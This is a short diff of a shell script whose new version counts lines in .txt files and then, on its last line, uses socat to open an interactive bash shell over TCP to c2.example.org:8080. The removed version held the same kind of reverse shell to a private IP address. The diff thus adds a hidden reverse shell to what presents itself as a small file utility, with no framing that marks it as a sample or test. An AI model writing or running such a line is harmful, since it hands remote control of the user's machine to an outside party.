@@ -1,7 +1,7 @@
 #!/bin/sh
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
-socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:172.16.4.2:443
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
+set -eu
+socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:c2.example.org:8080
